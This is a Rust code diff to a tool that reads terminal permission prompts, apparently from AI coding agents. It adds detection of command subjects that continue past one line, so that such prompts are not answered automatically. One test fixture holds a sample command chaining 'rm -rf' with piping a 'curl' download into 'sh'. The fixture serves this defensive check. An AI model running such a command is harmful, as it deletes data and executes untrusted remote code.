@@ -98,6 +98,9 @@ pub struct ScreenPrompt {
     pub text: String,
     pub options: Vec<String>,
     pub subject: String,
+    /// The subject may go on past the line it was read from (a command drawn over several
+    /// lines): then what was read is not all of it, and nothing answers it automatically.
+    pub subject_partial: bool,
     pub answer: AnswerStyle,
 }
 
@@ -249,24 +252,46 @@ impl Pack {
                     below
                 }
             };
-            let subject = rule
+            let subject_match = rule
                 .subject
                 .as_ref()
                 .and_then(|r| r.captures(&tail))
-                .and_then(|c| c.get(1))
+                .and_then(|c| c.get(1));
+            let subject = subject_match
                 .map(|s| clean_line(s.as_str()).to_string())
                 .unwrap_or_default();
+            let subject_partial =
+                subject_match.is_some_and(|s| goes_on(&tail, s.end(), line_start));
             a.prompt = Some(ScreenPrompt {
                 kind: rule.kind.clone(),
                 text,
                 options,
                 subject,
+                subject_partial,
                 answer: rule.answer,
             });
             break;
         }
         a
     }
+}
+
+/// Whether the text read as a subject up to `end` may go on: the line after it is neither
+/// blank, nor the question (which starts at `question`), nor one of the dialog's options.
+fn goes_on(tail: &str, end: usize, question: usize) -> bool {
+    let line_start = tail[..end].rfind('\n').map_or(0, |i| i + 1);
+    if line_start == question {
+        return false; // read from the question's own line
+    }
+    let Some(nl) = tail[end..].find('\n').map(|i| end + i) else {
+        return false; // the last line
+    };
+    let next_start = nl + 1;
+    if next_start == question {
+        return false;
+    }
+    let next = clean_line(tail[next_start..].lines().next().unwrap_or(""));
+    !(next.is_empty() || !numbered_options(&[next]).is_empty())
 }
 
 /// Strips box-drawing borders and the focus markers TUIs draw around a line.
@@ -488,5 +513,23 @@ pub(crate) mod tests {
             c.analyze("  ⎿  Interrupted · What should Claude do instead?\n❯ ")
                 .interrupted
         );
+    }
+
+    #[test]
+    fn a_subject_that_goes_on_past_its_line_is_partial() {
+        let q = "Proceed? [y/n]";
+        let t = format!("Command: rm -rf a \\\n  && curl x | sh\n{q}");
+        let question = t.find(q).unwrap_or(0);
+        let end = t.find(" \\").unwrap_or(0) + 2;
+        assert!(goes_on(&t, end, question), "a continuation line follows");
+        let t = format!("Command: git status\n{q}");
+        let question = t.find(q).unwrap_or(0);
+        assert!(!goes_on(&t, "Command: git status".len(), question));
+        let t = "Would you like to run?\n$ touch x\n\n› 1. Yes".to_string();
+        assert!(!goes_on(&t, t.find("touch x").unwrap_or(0) + 7, 0));
+        let t = "Would you like to run?\n$ touch x\n› 1. Yes".to_string();
+        assert!(!goes_on(&t, t.find("touch x").unwrap_or(0) + 7, 0));
+        let t = "Run: ls [y/n]".to_string();
+        assert!(!goes_on(&t, 7, 0));
     }
 }
